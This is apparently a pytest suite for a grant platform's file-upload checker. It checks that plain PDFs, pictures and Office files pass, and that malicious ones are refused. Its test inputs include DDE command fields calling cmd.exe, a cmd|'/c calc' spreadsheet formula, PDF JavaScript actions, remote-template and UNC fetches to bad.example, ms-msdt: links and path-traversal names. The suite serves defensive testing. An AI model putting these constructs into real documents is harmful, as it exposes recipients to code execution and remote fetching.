"""Files are what they say, and do nothing."""

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from grants.core.kernel.errors import InvalidInput
from grants.platform.file_checks import parts
from grants.platform.file_checks.checks import LARGEST, Upload, check, label
from tests.platform.documents import files

RUNS = {"/S": "/JavaScript", "/JS": "app.alert(1)"}


def kept(name: str, content: bytes) -> bytes:
    return check(Upload(name, content)).content


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(InvalidInput) as refused:
        check(Upload(name, content))
    return refused.value.message


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("budget.pdf", files.pdf(3), "application/pdf"),
        ("page.JPG", files.picture("JPEG"), "image/jpeg"),
        ("page.jpeg", files.picture("JPEG", "L"), "image/jpeg"),
        ("page.png", files.picture("PNG", "RGBA"), "image/png"),
        ("old.png", files.picture("PNG", "P"), "image/png"),
        ("fax.png", files.picture("PNG", "1"), "image/png"),
        ("print.jpg", files.picture("JPEG", "CMYK"), "image/jpeg"),
        ("letter.docx", files.docx(), "application/vnd.openxmlformats-officedocument"),
        ("budget.xlsx", files.xlsx(), "application/vnd.openxmlformats-officedocument"),
        ("letter.odt", files.odt(), "application/vnd.oasis.opendocument.text"),
    ],
)
def test_the_kinds_that_applicants_have_are_accepted(
    name: str, content: bytes, media_type: str
) -> None:
    checked = check(Upload(name, content))
    assert checked.media_type.startswith(media_type)
    assert checked.name == name
    assert kept(name, checked.content)


def test_a_document_is_kept_byte_for_byte() -> None:
    for name, content in (("a.pdf", files.pdf()), ("a.docx", files.docx())):
        assert kept(name, content) == content


def test_a_picture_forgets_who_took_it_and_where() -> None:
    told = files.picture("JPEG", place=True)
    assert b"Phone of Amina" in told
    clean = kept("photo.jpg", told)
    assert b"Phone of Amina" not in clean
    assert b"Exif" not in clean
    assert not Image.open(io.BytesIO(clean)).getexif()


def test_a_picture_is_turned_upright_before_its_orientation_is_forgotten() -> None:
    clean = kept("photo.jpg", files.picture("JPEG", place=True))
    assert Image.open(io.BytesIO(clean)).size == (48, 64)


def test_what_is_hidden_behind_a_picture_stays_behind() -> None:
    with_more = files.picture("PNG") + b"<script>alert(1)</script>" + files.archive({"a": b"b"})
    clean = kept("photo.png", with_more)
    assert b"script" not in clean
    assert not zipfile.is_zipfile(io.BytesIO(clean))


@pytest.mark.parametrize(
    "name", ["tool.exe", "page.html", "drawing.svg", "noending", "a.zip", ".pdf."]
)
def test_other_kinds_are_refused_with_a_list_of_those_that_are_not(name: str) -> None:
    assert "PDF, JPEG, PNG, DOCX, XLSX, ODT" in refusal(name, files.pdf())


def test_the_ending_has_to_agree_with_the_content() -> None:
    assert "is not in PDF format" in refusal("letter.pdf", b"MZ\x90\x00 this program cannot be run")
    assert "appears to be PNG" in refusal("letter.pdf", files.picture("PNG"))
    assert "is not in JPEG format" in refusal("photo.jpg", files.picture("PNG"))
    assert "cannot be opened" in refusal("letter.docx", files.xlsx())
    assert "cannot be opened" in refusal("book.xlsx", files.docx())
    assert "cannot be opened" in refusal("letter.odt", files.docx())
    assert "cannot be opened" in refusal(
        "a.odt", files.odt(b"application/vnd.oasis.opendocument.x")
    )


def test_nothing_and_too_much_are_refused() -> None:
    assert "is empty" in refusal("letter.pdf", b"")
    assert "10 MB at most" in refusal("letter.pdf", b"%PDF-" + b"x" * LARGEST)


def test_reading_an_upload_stops_at_the_limit() -> None:
    class Endless(io.RawIOBase):
        given = 0

        def read(self, size: int = -1) -> bytes:
            assert size >= 0, "asked for everything"
            self.given += size
            return b"x" * size

    stream = Endless()
    Upload.of("a.pdf", stream)  # type: ignore[arg-type]
    assert stream.given == LARGEST + 1


def test_a_blank_pdf_is_no_certificate() -> None:
    assert "its pages show nothing" in refusal("certificate.pdf", files.pdf(blank=True))
    blank = PdfWriter()
    blank.add_blank_page(200, 200)
    content = io.BytesIO()
    blank.write(content)
    assert "its pages show nothing" in refusal("certificate.pdf", content.getvalue())


def test_a_pdf_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """70 kB with 500 pages that each unpack to 70 MB of blanks kept a process busy for minutes."""
    monkeypatch.setattr(parts, "PATIENCE", 0)
    assert "cannot be opened" in refusal("certificate.pdf", files.pdf(blank=True))


def test_a_pdf_that_its_owner_restricts_and_anybody_can_read_is_accepted() -> None:
    content = files.pdf(owner="the registrar’s secret")
    assert PdfReader(io.BytesIO(content)).is_encrypted
    assert check(Upload("certificate.pdf", content)).content == content
    hidden = files.pdf(owner="secret", script="app.alert('hello')")
    assert "contains a script" in refusal("certificate.pdf", hidden)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (files.pdf(password="secret"), "protected by a password"),
        (files.pdf(script="app.alert('hello')"), "contains a script"),
        (files.pdf(carries=b"MZ"), "an embedded file"),
        (files.pdf_with_link("/Launch"), "contains a script"),
        (files.pdf() + files.archive({"payload.exe": b"MZ"}), "another file appended to it"),
        (b"%PDF-1.7\n%%EOF", "cannot be opened"),
        (files.pdf()[:200], "cannot be opened"),
        (
            b"%PDF-1.7\n" + b"1 0 obj<</Kids[1 0 R]>>endobj " * 3 + b"trailer<</Root 1 0 R>>",
            "opened",
        ),
    ],
)
def test_a_pdf_that_is_locked_broken_or_does_something_is_refused(content: bytes, why: str) -> None:
    assert why in refusal("letter.pdf", content)


@pytest.mark.parametrize(
    "hidden",
    [
        lambda: {"/OpenAction": {"/S": "/GoTo", "/Next": [RUNS]}},
        lambda: {"/AcroForm": {"/Fields": [{"/FT": "/Tx", "/AA": {"/K": RUNS}}]}},
        lambda: {"/AcroForm": {"/Fields": [], "/XFA": "<xdp/>"}},
        lambda: {"/Outlines": {"/First": {"/Title": "Home", "/A": RUNS}}},
        lambda: {"/AF": [{"/Type": "/Filespec", "/UF": "a.exe", "/EF": {"/F": {}}}]},
        lambda: {"/OpenAction": {"/S": "/URI", "/Next": {"/S": "/GoToR", "/F": r"\\host\a"}}},
        lambda: {"/Names": {"/JavaScript": {"/Names": ["a", RUNS]}}},
        lambda: {"/AA": {"/WC": {"/S": "/Rendition", "/JS": "app.alert(1)"}}},
    ],
    ids=["next", "field", "XFA", "outline", "AF", "remote", "names", "rendition"],
)
def test_a_program_is_found_wherever_it_hangs(hidden: Callable[[], Any]) -> None:
    assert "contains a script" in refusal("letter.pdf", files.pdf_holding(hidden()))


def test_data_as_json_may_lie_in_a_pdf_and_nothing_else_under_that_name() -> None:
    assert kept("letter.pdf", files.pdf(carries=b'{"amount": "5.00"}', named="facts.json"))
    for content, name in ((b"MZ", "facts.json"), (b"{}", "facts.exe"), (b"[1,", "facts.json")):
        pdf = files.pdf(carries=content, named=name)
        assert "an embedded file" in refusal("letter.pdf", pdf)


def test_a_pdf_may_link_to_a_web_page() -> None:
    assert kept("letter.pdf", files.pdf_with_link("/URI"))


def _png_claiming(width: int, height: int) -> bytes:
    """60 bytes that say they are a picture of this size."""
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        (b"IDAT", zlib.compress(b"")),
        (b"IEND", b""),
    )
    chunks = [
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


@pytest.mark.parametrize("side", [8_000, 12_000, 60_000])
def test_a_pixel_bomb_is_refused_before_it_is_decoded(side: int) -> None:
    assert "million pixels" in refusal("photo.png", _png_claiming(side, side))


def test_a_broken_picture_is_refused() -> None:
    assert "cannot be opened" in refusal("photo.jpg", files.picture("JPEG")[:300])
    assert "cannot be opened" in refusal("photo.png", b"\x89PNG\r\n\x1a\n" + b"x" * 100)


def _with_claim(bomb: bytes) -> bytes:
    """The same archive, whose list claims that each entry has 10 bytes."""
    whole = bytearray(bomb)
    at = whole.find(b"PK\x01\x02")
    while at != -1:
        whole[at + 24 : at + 28] = struct.pack("<I", 10)
        at = whole.find(b"PK\x01\x02", at + 4)
    return bytes(whole)


def test_a_zip_bomb_is_refused_whether_it_tells_its_size_or_not() -> None:
    bomb = files.docx({"word/media/a.bin": b"\0" * (120 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert "too large when unpacked" in refusal("letter.docx", bomb)
    assert refusal("letter.docx", _with_claim(bomb))


def test_a_part_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """40 kB of markup, unpacked, kept a process busy for minutes."""
    monkeypatch.setattr(parts, "PATIENCE", 0)
    slow = files.docx({"word/document.xml": b"<r>" + b"<a/>" * 100_000 + b"</r>"})
    assert "too large when unpacked" in refusal("letter.docx", slow)


def test_blank_lines_before_a_field_cost_no_more_than_their_number() -> None:
    begun = time.thread_time()
    blank = files.docx({"word/document.xml": _field("\n " * 100_000)})
    assert kept("letter.docx", blank) == blank
    assert time.thread_time() - begun < 10  # it took minutes when each line looked at all others


def test_an_archive_of_very_many_entries_is_refused() -> None:
    many = files.docx({f"word/{number}.xml": b"" for number in range(3001)})
    assert "too large when unpacked" in refusal("letter.docx", many)


MACROS = b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
RELATION = '<{0}Relationships xmlns{1}="http://r"><{0}Relationship Type="http://s/{2}" {3}/>'
RELATION += "</{0}Relationships>"
AWAY = 'Target="http://bad.example/t" TargetMode="External"'
SETTINGS = "word/_rels/settings.xml.rels"


def _relation(kind: str, target: str = AWAY, prefix: str = "") -> str:
    declared = f":{prefix[:-1]}" if prefix else ""
    return RELATION.format(prefix, declared, kind, target)


def _field(instruction: str) -> bytes:
    return f'<w:a xmlns:w="x">{instruction}</w:a>'.encode()


@pytest.mark.parametrize(
    ("part", "content"),
    [
        (SETTINGS, _relation("attachedTemplate").encode("utf-16")),
        (SETTINGS, _relation("attachedTemplate", prefix="p:").encode()),
        (SETTINGS, _relation("attachedTemplate", AWAY.replace("nal", "n&#97;&#108;")).encode()),
        ("word/_rels/document.xml.rels", _relation("image").encode()),
        ("word/document.xml", _field("<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>")),
        (
            "word/document.xml",
            _field("<w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E c</w:instrText>"),
        ),
        ("word/header1.xml", _field('<w:fldSimple w:instr=" DDE cmd"/>')),
        ("word/document.xml", _field("<w:instrText> QUOTE 68 68 69 </w:instrText>")),
        (
            "word/document.xml",
            _field('<w:instrText> INCLUDEPICTURE "http://bad.example/a.png"</w:instrText>'),
        ),
        ("xl/externalLinks/externalLink1.xml", b'<e xmlns="x"><ddeLink ddeService="cmd"/></e>'),
        ("xl/worksheets/sheet9.xml", b"<a xmlns='x'><f>cmd|'/c calc'!A0</f></a>"),
        ("[Content_Types].xml", MACROS.decode().encode("utf-16")),
    ],
)
def test_what_fetches_or_runs_is_found_however_it_is_written(part: str, content: bytes) -> None:
    assert "loads content from outside" in refusal("letter.docx", files.docx({part: content}))


def test_an_open_document_shows_nothing_from_elsewhere() -> None:
    picture = b'<a xmlns:x="l"><image x:href="%s"/></a>'
    held = files.archive({**files.ODT, "content.xml": picture % b"Pictures/a.png"})
    assert kept("letter.odt", held)
    far = files.archive({**files.ODT, "content.xml": picture % b"https://bad.example/a.png"})
    assert "loads content from outside" in refusal("letter.odt", far)


def test_an_ordinary_field_or_formula_is_no_program() -> None:
    words = _field("<w:fldChar/><w:instrText> PAGE </w:instrText><w:t>DDE</w:t>")
    link = _field('<w:instrText> HYPERLINK "http://a.example/link dde" </w:instrText>')
    sums = b"<a xmlns='x'><f>\"a|b\"&amp;Sheet1!A1</f></a>"
    for part, content in (("document", words), ("header1", link), ("sheet1", sums)):
        assert kept("letter.docx", files.docx({f"word/{part}.xml": content}))


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'
REMOTE = (
    b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://s/attachedTemplate" '
    b'Target="http://bad.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINKED = (
    b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas/hyperlink" '
    b'Target="http://good.example/" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (files.docx({"word/vbaProject.bin": b"macro"}), "contains a macro"),
        (files.docx({"word/embeddings/oleObject1.bin": b"MZ"}), "contains a macro"),
        (files.docx({"word/_rels/settings.xml.rels": REMOTE}), "loads content from outside"),
        (files.docx({"[Content_Types].xml": MACROS}), "contains a macro"),
        (files.docx({"word/document.xml": ENTITIES}), "cannot be opened"),
        (files.docx({"word/document.xml": b"<a>"}), "cannot be opened"),
        (files.docx({"../../etc/passwd": b"x"}), "cannot be opened"),
        (files.archive({"word/document.xml": b"<a/>"}), "cannot be opened"),
        (b"PK\x03\x04" + b"x" * 50, "cannot be opened"),
        (files.docx()[:-30], "cannot be opened"),
    ],
)
def test_an_office_file_that_runs_fetches_or_breaks_is_refused(content: bytes, why: str) -> None:
    assert why in refusal("letter.docx", content)


def test_an_office_file_may_link_to_a_web_page() -> None:
    assert kept("letter.docx", files.docx({"word/_rels/document.xml.rels": LINKED}))


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        (r"C:\Users\amina\budget.pdf", "budget.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("gro\u202efdp.exe.pdf", "grofdp.exe.pdf"),
        ("bud\x00get\r\n.pdf", "budget.pdf"),
        ("ميزانية.pdf", "ميزانية.pdf"),
        ("预算.docx", "预算.docx"),
        (" .pdf", "pdf"),
        ("", "file"),
        ("a" * 400 + ".pdf", "a" * 150 + ".pdf"),
    ],
)
def test_a_name_is_only_a_label(name: str, shown: str) -> None:
    assert label(name) == shown


@given(st.text(max_size=300))
def test_any_name_becomes_a_label_that_can_be_shown_and_kept(name: str) -> None:
    shown = label(name)
    assert 0 < len(shown) <= 200
    assert "/" not in shown
    assert shown == label(shown)
    assert shown.encode()


@given(st.binary(max_size=400), st.sampled_from(["a.pdf", "a.jpg", "a.png", "a.docx", "a.odt"]))
def test_any_bytes_are_kept_or_refused_in_words(content: bytes, name: str) -> None:
    begins = {"a.pdf": b"%PDF-", "a.jpg": b"\xff\xd8\xff", "a.png": b"\x89PNG\r\n\x1a\n"}
    with suppress(InvalidInput):
        checked = check(Upload(name, begins.get(name, b"PK\x03\x04") + content))
        assert checked.content


def _relations(kind: str, target: str, mode: str = "") -> bytes:
    told = f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "")
    return _relation(kind, told).encode()


def _typed(kind: str) -> bytes:
    return f'<Types xmlns="x"><Override PartName="/a" ContentType="{kind}"/></Types>'.encode()


RELATIONS = "word/_rels/document.xml.rels"
CHART = "word/embeddings/Microsoft_Excel_Sheet.xlsx"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)


@pytest.mark.parametrize(
    "part",
    [
        {"xl/connections.xml": b'<connections xmlns="x"/>'},
        {"xl/_rels/workbook.xml.rels": _relations("connections", "data1.xml")},
        {"[Content_Types].xml": _typed("application/vnd.x.spreadsheetml.queryTable+xml")},
        {"[Content_Types].xml": _typed("application/vnd.ms-excel.macrosheet+xml")},
        {"xl/macrosheets/sheet1.xml": b'<a xmlns="x"/>'},
        {"xl/_rels/workbook.xml.rels": _relations("xlMacrosheet", "worksheets/sheet2.xml")},
        {"xl/workbook.bin": b"x"},
        {RELATIONS: _relations("vbaProject", "media/image1.png")},
        {"word/media/image1.png": COMPOUND},
        {CHART: files.docx({"xl/vbaProject.bin": b"macro"})},
        {CHART: files.docx({"xl/media/image1.png": COMPOUND})},
        {CHART: files.docx({"xl/inside.docx": files.docx()})},
        {RELATIONS: _relations("aFChunk", "part.html")},
        {"word/document.xml": b'<w:a xmlns:w="x"><w:altChunk w:id="r1"/></w:a>'},
        {RELATIONS: _relations("image", "http://bad.example/a.png")},
        {RELATIONS: _relations("image", r"\\bad.example\a.png")},
        {RELATIONS: _relations("subDocument", "file:///c:/a.docx")},
        {"customUI/_rels/customUI.xml.rels": _relations("extensibility", "customUI.xml")},
        {"word/document.xml": _field('<w:instrText>IMPORT "http://bad.example/a"</w:instrText>')},
    ],
    ids=lambda part: next(iter(part)) if isinstance(part, dict) else "",
)
def test_what_runs_or_is_fetched_is_found_under_any_name_and_in_what_is_embedded(
    part: dict[str, bytes],
) -> None:
    assert "contains a macro or loads content from outside" in refusal(
        "letter.docx", files.docx(part)
    )


@pytest.mark.parametrize(
    "link", ["file:///c:/a.exe", "javascript:alert(1)", "ms-msdt:/id", "C:\\a"]
)
def test_a_link_leads_to_web_pages_and_mail_only(link: str) -> None:
    why = "Links may lead to web pages and e-mail addresses only"
    word = _field(f'<w:instrText> HYPERLINK "{link}" </w:instrText>')
    cell = f'<a xmlns=\'x\'><f>HYPERLINK("{link}","Press")</f></a>'.encode()
    for part in (
        {RELATIONS: _relations("hyperlink", link, "External")},
        {"word/document.xml": word},
        {"xl/worksheets/sheet1.xml": cell},
    ):
        assert why in refusal("letter.docx", files.docx(part))
    shown = f'<t:p xmlns:t="t" xmlns:x="l"><t:a x:href="{link}">Press</t:a></t:p>'.encode()
    assert why in refusal("letter.odt", files.archive({**files.ODT, "content.xml": shown}))
    assert why in refusal("letter.pdf", files.pdf_with_link("/URI", link))
    assert why in refusal("letter.pdf", files.pdf_holding({"/URI": {"/Base": link}}))


@pytest.mark.parametrize(
    "link", ["https://un.org/a", "mailto:a@un.org", "tel:+431", "#Annex", "a.pdf"]
)
def test_ordinary_links_charts_and_pictures_pass(link: str) -> None:
    parts = {
        RELATIONS: _relations("hyperlink", link, "External"),
        CHART: files.xlsx(),
        "word/media/image1.png": files.picture("PNG"),
        "word/document.xml": _field(f'<w:instrText> HYPERLINK "{link}" </w:instrText>'),
        "docProps/thumbnail.jpeg": files.picture("JPEG"),
    }
    assert kept("letter.docx", files.docx(parts))
    assert kept("letter.pdf", files.pdf_with_link("/URI", link))


def test_a_pdf_that_takes_its_content_from_another_file_is_refused() -> None:
    for told in ({"/F": TextStringObject("http://bad.example/a")}, {"/Ref": DictionaryObject()}):
        writer = PdfWriter(io.BytesIO(files.pdf()))
        stream = writer.pages[0]["/Contents"].get_object()
        assert isinstance(stream, DictionaryObject)
        stream.update({NameObject(key): value for key, value in told.items()})
        held = io.BytesIO()
        writer.write(held)
        assert "contains a script" in refusal("letter.pdf", held.getvalue())
    far = {"/AF": [{"/Type": "/Filespec", "/FS": "/URL", "/F": "http://bad.example/a"}]}
    assert "contains a script" in refusal("letter.pdf", files.pdf_holding(far))
